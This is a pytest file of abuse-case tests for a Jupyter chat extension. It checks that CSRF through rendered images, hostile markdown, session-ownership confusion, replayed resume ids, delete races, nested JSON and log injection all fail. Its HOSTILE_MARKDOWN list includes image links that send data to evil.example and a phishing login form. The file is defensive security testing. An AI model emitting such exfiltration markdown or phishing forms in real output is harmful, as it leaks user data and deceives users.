"""Abuse cases against a real Jupyter server: each test is an attack that must fail.

One test (or a few) per hardening item: a turn started in a victim's name by a rendered
image, images and forms in model output, ownership when a request carries both a login
cookie and the server token, resume across turns, a DELETE racing a new turn, and
malformed input that must answer a 4xx JSON error without leaking internals.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import re
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, Page, expect
from server_helpers import (
    ALICE,
    BOB,
    GATE,
    SCRIPT,
    ToolCall,
    auth,
    error_of,
    receive,
    server_config,
    session_providers,
    sse_events,
)

from streamchat import TokenEvent
from streamchat.notebook.render import render_markdown
from streamchat.stores import MemoryStore


@contextlib.asynccontextmanager
async def logged_in(base_url: str) -> AsyncIterator[httpx.AsyncClient]:
    """A browser-like client for alice: it logged in once with her token and now has only cookies."""
    async with httpx.AsyncClient(base_url=base_url) as browser:
        page = await browser.get("streamchat/", headers=auth(ALICE))
        assert page.status_code == 200 and "_xsrf" in browser.cookies
        yield browser


@pytest.fixture
def requested() -> list[str]:
    """Every URL the `page` asked for after it loaded."""
    return []


@pytest.fixture
def console() -> list[str]:
    """Every console message of the `page`."""
    return []


@pytest.fixture
async def page(browser: Browser, base_url: str, requested: list[str], console: list[str]) -> AsyncIterator[Page]:
    """The chat page, logged in as alice (the token in the URL sets Jupyter's login cookie)."""
    context = await browser.new_context()
    page = await context.new_page()
    page.on("console", lambda message: console.append(message.text))
    await page.goto(f"{base_url}streamchat/?token={ALICE}")
    await expect(page.locator("#status")).to_have_text("connected")
    page.on("request", lambda request: requested.append(request.url))
    yield page
    await context.close()


async def ask(page: Page, question: str) -> None:
    """Type a question, press Enter and wait for the answer to end."""
    await page.locator("#prompt").fill(question)
    await page.locator("#prompt").press("Enter")
    await expect(page.locator(".assistant").last).to_have_attribute("data-reason", "stop")


async def images_settled(page: Page) -> None:
    """Wait until every image in the page has loaded or failed (a request it made has been answered)."""
    await page.evaluate(
        """() => Promise.all([...document.images].map((img) => img.complete ? null
             : new Promise((done) => { img.onload = img.onerror = done; })))"""
    )


def service_of(jp_serverapp: Any) -> Any:
    """The extension's ChatService."""
    return jp_serverapp.web_app.settings["streamchat_service"]


# -- item 2: a GET that starts a turn needs an explicit XSRF token ---------------------------------------


async def test_a_cookie_get_with_only_a_same_host_referer_starts_no_turn(base_url: str, jp_serverapp: Any) -> None:
    async with logged_in(base_url) as browser:
        refused = await browser.get(
            "api/streamchat/sessions/pwn/stream", params={"message": "pwned"}, headers={"Referer": base_url}
        )
        assert refused.status_code == 403, refused.status_code
        assert "_xsrf" in error_of(refused)["message"]  # it says what a browser client must send
        assert session_providers() == [] and await service_of(jp_serverapp).store.get("pwn") is None
        xsrf = browser.cookies["_xsrf"]
        frames = await sse_events(
            browser,
            "GET",
            "api/streamchat/sessions/mine/stream",
            params={"message": "hi"},
            headers={"Referer": base_url, "X-XSRFToken": xsrf},
        )
        assert frames[-1].event.text == "Hello there"  # the explicit token (header or _xsrf argument) still works


async def test_an_image_in_model_output_does_not_start_a_turn_in_the_page(
    page: Page, jp_serverapp: Any, jp_base_url: str
) -> None:
    SCRIPT.turns = [[f"Look: ![x]({jp_base_url}api/streamchat/sessions/pwn/stream?message=pwned)"]]
    await ask(page, "show me")
    await images_settled(page)
    assert await service_of(jp_serverapp).store.get("pwn") is None
    assert len(session_providers()) == 1  # only the page's own session ever reached the model


# -- item 4: no images, forms or styles from model output; a strict CSP on the page ----------------------

HOSTILE_MARKDOWN = [
    "![leak](https://evil.example/collect?d=secret)",
    "![same](/api/streamchat/sessions/pwn/stream?message=pwned)",
    '<img src="/api/streamchat/tools" alt="raw">',
    '<img src="https://evil.example/raw.png">',
    "<style>.assistant { display: none }</style>",
    '<form action="https://evil.example/phish"><input name="password"><button>Log in</button></form>',
    '<p style="position: fixed; inset: 0">cover</p>',
]


@pytest.mark.parametrize("attack", HOSTILE_MARKDOWN)
def test_the_notebook_renderer_drops_images_forms_inputs_and_styles(attack: str) -> None:
    html = render_markdown(f"Look: {attack} done")
    for bad in ("<img", "src=", "<style", "<form", "<input", "<button", "style=", "evil.example"):
        assert bad not in html, html
    assert "done" in html


def test_the_notebook_renderer_keeps_https_images_only_when_asked() -> None:
    text = '![ok](https://images.example/a.png) ![same](/api/x) <img src="api/y"> <img src="http://plain.example/z">'
    assert render_markdown(text) == "<p>ok same  </p>\n"  # a Markdown image leaves its alt text
    html = render_markdown(text, remote_images=True)
    assert '<img src="https://images.example/a.png" alt="ok">' in html
    assert "/api/" not in html and "plain.example" not in html and html.count("src=") == 1


async def test_the_page_answers_with_a_strict_content_security_policy(base_url: str) -> None:
    async with httpx.AsyncClient(base_url=base_url, headers=auth(ALICE)) as client:
        for route in ("streamchat/", "streamchat/static/chat.js", "streamchat/static/chat.css"):
            response = await client.get(route)
            assert response.status_code == 200, route
            policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
            assert policy["default-src"] == "'none'" and policy["img-src"] == "'none'", policy
            assert policy["script-src"] == "'self'" and policy["style-src"] == "'self'", policy
            assert policy["form-action"] == "'none'" and policy["base-uri"] == "'none'", policy
        assert "<script>" not in (await client.get("streamchat/")).text  # no inline script needs allowing


async def test_the_page_works_under_its_policy(page: Page, console: list[str]) -> None:
    SCRIPT.turns = [
        ["Counting. ", ToolCall("count_to", {"n": 2}, call_id="c")],
        ["Counted **2**. ![a & <b>](https://x.example/a.png)"],
    ]
    await ask(page, "count")
    answer = page.locator(".assistant").last
    await expect(answer.locator(".content strong")).to_have_text("2")
    await expect(answer.locator(".content")).to_have_text("Counting. Counted 2. a & <b>")  # alt text, escaped once
    fill = answer.locator('.tool-card[data-call-id="c"] .fill')
    assert await fill.evaluate("(node) => node.getBoundingClientRect().width > 0")  # styles set from the script apply
    assert await page.locator("header").evaluate("(node) => getComputedStyle(node).display") == "flex"  # chat.css
    assert [line for line in console if "Content Security Policy" in line] == []


async def test_images_in_model_output_make_no_request_from_the_page(page: Page, requested: list[str]) -> None:
    SCRIPT.turns = [["Look:\n\n" + "\n\n".join(HOSTILE_MARKDOWN) + "\n\ndone"]]
    await ask(page, "show me")
    content = page.locator(".assistant .content")
    await expect(content).to_contain_text("done")
    await images_settled(page)
    assert requested == []
    await expect(content).to_contain_text("leak")  # an image shows its alt text
    for tag in ("img", "style", "form", "input", "button", "[style]"):
        assert await content.locator(tag).count() == 0, tag
    assert await page.locator(".assistant").is_visible()


class TestRemoteImagesOptIn:
    @pytest.fixture
    def jp_server_config(self) -> dict[str, Any]:
        return server_config(remote_images=True)

    async def test_https_images_load_and_same_origin_ones_still_do_not(
        self, page: Page, requested: list[str], base_url: str
    ) -> None:
        await page.route("https://evil.example/**", lambda route: route.abort())  # offline: only see the request
        SCRIPT.turns = [["Look:\n\n" + "\n\n".join(HOSTILE_MARKDOWN) + "\n\ndone"]]
        await ask(page, "show me")
        await images_settled(page)
        assert sorted(requested) == ["https://evil.example/collect?d=secret", "https://evil.example/raw.png"]
        async with httpx.AsyncClient(base_url=base_url, headers=auth(ALICE)) as client:
            policy = (await client.get("streamchat/")).headers["content-security-policy"]
        assert "img-src https:" in policy


# -- item 7: a login cookie's user keeps ownership when the request also carries the server token --------


async def test_a_cookie_user_keeps_its_sessions_when_the_request_also_carries_the_server_token(
    base_url: str, jp_serverapp: Any
) -> None:
    server_token = auth(jp_serverapp.identity_provider.token)
    async with logged_in(base_url) as browser:
        xsrf = {"X-XSRFToken": browser.cookies["_xsrf"]}
        mine = (await browser.post("api/streamchat/chat", json={"message": "mine"}, headers=xsrf)).json()
        both = await browser.get(f"api/streamchat/sessions/{mine['session_id']}", headers=server_token)
        assert both.status_code == 200, both.status_code  # alice, as jupyter_server itself says
        created = (await browser.post("api/streamchat/chat", json={"message": "also"}, headers=server_token)).json()
    record = await service_of(jp_serverapp).store.get(created["session_id"])
    assert record is not None and record.owner == "alice"
    async with httpx.AsyncClient(base_url=base_url, headers=server_token) as script:  # a script keeping cookies
        refused = await script.get(f"api/streamchat/sessions/{mine['session_id']}")
        assert refused.status_code == 404
        first = (await script.post("api/streamchat/chat", json={"message": "script"})).json()
        again = await script.get(f"api/streamchat/sessions/{first['session_id']}")
        assert again.status_code == 200  # the server token alone stays one owner, also across a cookie jar
    async with httpx.AsyncClient(base_url=base_url, headers=server_token) as other_script:
        assert (await other_script.get(f"api/streamchat/sessions/{first['session_id']}")).status_code == 200


async def test_the_login_cookie_of_a_token_request_persists_a_user_and_is_cleared_for_the_server_token(
    base_url: str, jp_serverapp: Any
) -> None:
    async with httpx.AsyncClient(base_url=base_url) as browser:  # alice's token once, then her cookie alone
        started = await browser.post("api/streamchat/chat", json={"message": "mine"}, headers=auth(ALICE))
        login = [c for c in started.headers.get_list("set-cookie") if c.startswith("username-")]
        assert len(login) == 1 and "HttpOnly" in login[0] and "username-127-0-0-1-" in login[0], login
        mine = await browser.get(f"api/streamchat/sessions/{started.json()['session_id']}")
        assert mine.status_code == 200 and mine.json()["history"][0]["content"] == "mine"
    login_name = f"username-127-0-0-1-{httpx.URL(base_url).port}"
    async with httpx.AsyncClient(base_url=base_url, headers=auth(jp_serverapp.identity_provider.token)) as script:
        answered = await script.post("api/streamchat/chat/stream", json={"message": "script"})
        assert answered.status_code == 200
        assert not [c for c in answered.headers.get_list("set-cookie") if c.startswith("username-")]  # never set
        stale = {"Cookie": f"{login_name}=2|expired-or-forged"}
        answered = await script.post("api/streamchat/chat/stream", json={"message": "script"}, headers=stale)
        assert answered.status_code == 200
        cleared = [c for c in answered.headers.get_list("set-cookie") if c.startswith("username-")]
        assert len(cleared) == 1 and cleared[0].startswith(f'{login_name}="";'), cleared  # a login cookie sent: cleared
        assert "expires=" in cleared[0].lower() and not [n for n in script.cookies if n.startswith("username-")]


# -- item 8: resume ids name their turn ---------------------------------------------------------------------


class TestResumeAcrossTurns:
    @pytest.fixture
    def jp_server_config(self) -> dict[str, Any]:
        return server_config(disconnect_grace=60.0)  # the cut client's turn runs on to its end

    async def test_a_resume_after_a_new_turn_answers_410_instead_of_the_new_turns_events(
        self, client: httpx.AsyncClient
    ) -> None:
        SCRIPT.turns = [["one ", "two ", "three"], ["second turn"]]
        url = "api/streamchat/sessions/moved/stream"
        cut = await sse_events(client, "GET", url, params={"message": "go"}, stop=lambda f: f.event.type == "token")
        turn_id = cut[0].event.turn_id
        assert [f.id for f in cut] == [f"{turn_id}:1", f"{turn_id}:2"]  # an SSE id names its turn
        rest = await sse_events(client, "GET", url, headers={"Last-Event-ID": cut[-1].id})
        assert [f.id for f in rest] == [f"{turn_id}:{n}" for n in range(3, 6)] and rest[-1].event.type == "done"
        second = await client.post("api/streamchat/chat", json={"message": "again", "session_id": "moved"})
        assert second.json()["text"] == "second turn"
        gone = await client.get(url, headers={"Last-Event-ID": cut[-1].id})
        assert gone.status_code == 410, gone.status_code
        error = error_of(gone)
        assert error["code"] == "turn_replaced" and "api/streamchat/sessions/moved" in error["message"]
        current = await sse_events(client, "GET", url, headers={"Last-Event-ID": "1"})  # a bare seq: the latest turn
        (new_turn,) = {f.event.turn_id for f in current}
        assert new_turn != turn_id and [f.id for f in current] == [f"{new_turn}:{n}" for n in range(2, 4)]
        assert current[-1].event.text == "second turn"


async def test_the_memory_store_names_the_latest_turn_of_its_buffer() -> None:
    store = MemoryStore(replay_size=2)
    await store.create("s", owner="alice")
    assert await store.latest_turn_id("s") is None
    await store.begin_turn("s")
    for seq in (1, 2, 3):
        await store.append_event("s", TokenEvent(session_id="s", turn_id="first", seq=seq, content="x"))
    assert await store.latest_turn_id("s") == "first"
    await store.end_turn("s")
    await store.begin_turn("s")
    assert await store.latest_turn_id("s") is None  # a new turn before its first event: no longer "first"
    await store.delete("s")
    assert await store.latest_turn_id("s") is None


ODD_IDS = ["+5", "-1", str(10**30), "1.5", "1e3", "x", ":5", "5:", "a b:1", "t" * 65 + ":1", "1\tx"]


@pytest.mark.parametrize(
    "last_event_id",
    # headers travel as bytes, read by tornado as Latin-1: "²" and "¹" are digits to str.isdigit()
    [*(i.encode() for i in ODD_IDS), "²".encode("latin-1"), "t:¹".encode("latin-1"), "١٢".encode()],
)
async def test_odd_last_event_ids_answer_400_json_and_the_session_keeps_working(
    client: httpx.AsyncClient, last_event_id: bytes
) -> None:
    SCRIPT.turns = [["first"], ["second"]]
    url = "api/streamchat/sessions/odd/stream"
    await sse_events(client, "GET", url, params={"message": "hi"})
    response = await client.get(url, headers={"Last-Event-ID": last_event_id})
    assert response.status_code == 400, response.status_code
    error = error_of(response)
    assert error["code"] == "bad_last_event_id" and "<turn_id>:<seq>" in error["message"]
    frames = await sse_events(client, "GET", url, params={"message": "again"})
    assert frames[-1].event.text == "second"


# -- item 9: a DELETE racing a new turn ----------------------------------------------------------------------


class SlowDeleteStore(MemoryStore):
    """A memory store whose delete takes a round trip, as a networked store's does; the test holds it open."""

    def __init__(self, **sizes: Any) -> None:
        super().__init__(**sizes)
        self.deleting = asyncio.Event()
        self.proceed = asyncio.Event()

    async def delete(self, session_id: str) -> bool:
        self.deleting.set()
        await self.proceed.wait()
        return await super().delete(session_id)


class TestDeleteRace:
    @pytest.fixture
    def jp_server_config(self) -> dict[str, Any]:
        return server_config(store_class=SlowDeleteStore, disconnect_grace=60.0)

    async def test_a_turn_started_during_a_delete_cannot_leak_into_a_record_another_user_recreates(
        self, client: httpx.AsyncClient, base_url: str, jp_serverapp: Any
    ) -> None:
        store = service_of(jp_serverapp).store
        GATE.reset()
        SCRIPT.turns = [[ToolCall("wait_here", {"label": "A"})], [ToolCall("wait_here", {"label": "B"})], ["secret"]]
        url = "api/streamchat/sessions/race/stream"
        await sse_events(client, "GET", url, params={"message": "A"}, stop=lambda f: f.event.type == "tool_progress")
        delete = asyncio.create_task(client.delete("api/streamchat/sessions/race"))
        await asyncio.wait_for(store.deleting.wait(), timeout=10)  # turn A was stopped; the delete is under way
        GATE.reset()
        second = asyncio.create_task(client.post("api/streamchat/chat", json={"message": "B", "session_id": "race"}))
        assert GATE.started is not None
        started = asyncio.create_task(GATE.started.wait())
        await asyncio.wait({second, started}, timeout=10, return_when=asyncio.FIRST_COMPLETED)
        b_started = started.done()
        started.cancel()
        store.proceed.set()
        assert (await delete).status_code == 204
        SCRIPT.turns = [["bob's answer"]]
        async with httpx.AsyncClient(base_url=base_url, headers=auth(BOB)) as bob:
            await sse_events(bob, "GET", url, params={"message": "bob's question"})
            assert GATE.opened is not None
            GATE.opened.set()  # a turn B, if one started, ends now and saves its history
            refused = await second
            turns = [task for task in asyncio.all_tasks() if task.get_name() == "streamchat race"]
            await asyncio.gather(*turns, return_exceptions=True)
            history = (await bob.get("api/streamchat/sessions/race")).json()["history"]
        assert [m["content"] for m in history] == ["bob's question", "bob's answer"]
        assert not b_started  # no turn B ran
        assert refused.status_code == 404 and "deleted" in error_of(refused)["message"]


# -- low: malformed input answers 4xx JSON, logs stay one line per record, no internals reach clients ------

DEEP = b"[" * 100_000 + b"]" * 100_000


@pytest.mark.parametrize("route", ["api/streamchat/chat", "api/streamchat/chat/stream"])
@pytest.mark.parametrize("body", [DEEP, b'{"message": "hi", "x": ' + DEEP + b"}"], ids=["deep", "deep-value"])
async def test_deeply_nested_json_is_a_400(client: httpx.AsyncClient, route: str, body: bytes) -> None:
    response = await client.post(route, content=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 400, response.status_code
    assert error_of(response)["code"] == "invalid_json" and "nest" in error_of(response)["message"]


async def test_a_deeply_nested_websocket_message_gets_an_error_and_the_socket_stays(ws: Any) -> None:
    await ws.write_message(DEEP)
    assert (await receive(ws))["code"] == "invalid_json"
    await ws.write_message(json.dumps({"type": "chat.message", "message": "hi"}))
    assert [(await receive(ws))["type"] for _ in range(4)][-1] == "chat.complete"


async def test_extra_keys_and_query_strings_put_no_raw_line_breaks_into_the_log(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    for body in (
        {"message": "hi", "evil\nINJECTED log line": 1},
        {"message": 5, "x\r\nINJECTED": {"y\u2028INJECTED": 1}},
    ):
        response = await client.post("api/streamchat/chat", json=body)
        assert response.status_code == 400 and "INJECTED" in error_of(response)["message"]  # the client is told
    await client.get(
        "api/streamchat/sessions/a%0AINJECTED/stream", params={"message": "x\nINJECTED", "k\nINJECTED": ""}
    )
    await client.get("api/streamchat/sessions/s/stream", headers={"Last-Event-ID": "1\u0085INJECTED".encode("latin-1")})
    logged = [record.getMessage() for record in caplog.records if record.name != "httpx"]
    assert any("INJECTED" in line for line in logged)
    for line in logged:
        assert not any(mark + "INJECTED" in line for mark in ("\n", "\r", "\u2028", "\u0085")), line


async def test_error_messages_say_what_to_do(client: httpx.AsyncClient) -> None:
    unknown = await client.get("api/streamchat/sessions/nobody")
    assert "start a new session" in error_of(unknown)["message"]
    too_big = await client.post("api/streamchat/chat", content=b"x" * 10_000_000)
    assert too_big.status_code == 413 and "shorter" in error_of(too_big)["message"]
    not_json = await client.post("api/streamchat/chat", content=b"{oops")
    assert '{"message": ' in error_of(not_json)["message"]
    async with httpx.AsyncClient(base_url=str(client.base_url)) as anonymous:
        refused = await anonymous.get("api/streamchat/tools")
    assert refused.status_code == 403 and "Authorization: token" in error_of(refused)["message"]
    async with logged_in(str(client.base_url)) as browser:
        refused = await browser.post("api/streamchat/chat", json={"message": "hi"})
    assert refused.status_code == 403 and "X-XSRFToken" in error_of(refused)["message"]


class TestNoInternalsReachClients:
    @pytest.fixture
    def backend_url(self) -> str:
        """The address of an Ollama that is down (nothing listens on the port)."""
        with socket.socket() as sock:
            sock.bind(("127.0.0.1", 0))
            port = sock.getsockname()[1]
        return f"http://127.0.0.1:{port}/internal-route"

    @pytest.fixture
    def jp_server_config(self, backend_url: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
        monkeypatch.setenv("STREAMCHAT_BACKEND_RETRIES", "0")
        return server_config(provider_factory="", provider="ollama", model="llama3.2", ollama_host=backend_url)

    async def test_health_and_an_unreachable_backend_answer_an_id_not_the_address(
        self, client: httpx.AsyncClient, backend_url: str, caplog: pytest.LogCaptureFixture
    ) -> None:
        caplog.set_level(logging.INFO)
        health = await client.get("api/streamchat/health")
        assert health.status_code == 200 and health.json()["reachable"] is False
        answer = await client.post("api/streamchat/chat", json={"message": "hi"})
        assert answer.status_code == 200 and answer.json()["reason"] == "error"
        for response in (health, answer):
            assert "127.0.0.1" not in response.text and "internal-route" not in response.text, response.text
        (error,) = answer.json()["errors"]
        assert "try again" in error
        for said in (health.json()["error"], error):
            error_id = re.search(r"error id (\w+)", said)
            assert error_id is not None, said
            logged = [r.getMessage() for r in caplog.records if error_id[1] in r.getMessage()]
            assert logged and all(backend_url in line for line in logged), logged  # the admin gets the details


class TestNoGgufPathReachesClients:
    @pytest.fixture
    def jp_server_config(self, tmp_path: Path) -> dict[str, Any]:
        model = tmp_path / "private-models" / "model.gguf"
        model.parent.mkdir()
        model.write_bytes(b"")
        return server_config(provider_factory="", provider="local", local_model=str(model))

    async def test_health_names_the_model_file_not_its_path(self, client: httpx.AsyncClient) -> None:
        health = await client.get("api/streamchat/health")
        assert "private-models" not in health.text and "model.gguf" in health.text, health.text


async def test_an_internal_error_in_a_turn_reaches_the_client_as_an_id(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    async def broken(request: Any) -> AsyncIterator[str]:
        raise RuntimeError("secret detail from /srv/internal/config.yaml")
        yield ""

    SCRIPT.turns = [broken]
    answer = (await client.post("api/streamchat/chat", json={"message": "hi"})).json()
    (error,) = answer["errors"]
    assert "/srv/internal" not in error and "RuntimeError" not in error
    error_id = re.search(r"error id (\w+)", error)
    assert error_id is not None, error
    assert any(error_id[1] in r.getMessage() and "/srv/internal" in r.getMessage() for r in caplog.records)
